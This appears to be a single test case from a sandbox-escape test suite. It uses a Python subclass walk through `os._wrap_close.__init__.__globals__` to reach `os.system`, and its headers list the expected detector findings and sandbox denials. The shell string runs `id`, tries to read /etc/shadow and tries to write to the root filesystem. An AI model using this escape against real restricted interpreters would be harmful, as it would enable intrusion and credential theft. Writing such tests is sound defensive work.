# row: B02
# attack: Subclass walk: `().__class__.__base__.__subclasses__()` finds `os._wrap_close`, whose
#   `__init__.__globals__` is the os module's namespace, so `['system']` runs a shell without naming os.
# v-on-finding: rule=attribute.dunder source=ast text='__subclasses__'
# v-on-finding: rule=attribute.dunder source=ast text='__globals__'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B02
# limits: wall_time_s=5
SHELL = (
    "id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B02"
)

try:
    wrap_close = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close")
    system = wrap_close.__init__.__globals__["system"]
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print("system() reached", flush=True)
    print(f"system() exit status {system(SHELL)}")
